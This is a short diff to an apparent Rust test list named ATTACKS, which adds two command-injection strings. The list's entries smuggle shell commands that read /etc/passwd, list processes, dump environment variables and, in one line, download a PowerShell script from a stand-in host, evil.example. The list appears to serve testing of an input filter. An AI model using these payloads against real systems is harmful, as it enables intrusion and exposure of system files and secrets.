@@ -97,6 +97,8 @@ const ATTACKS: &[&str] = &[
     "0;env",
     "1|ps -ef",
     ";cat+/etc/passwd",
+    ";\"cat\" /etc/passwd",
+    "1;pwd # x",
     "cat /[e]tc/pa?swd",
     ";iwr http://evil.example/a.ps1",
     "& FOR /F \"delims=\" %G IN ('SET') DO @Echo %G",
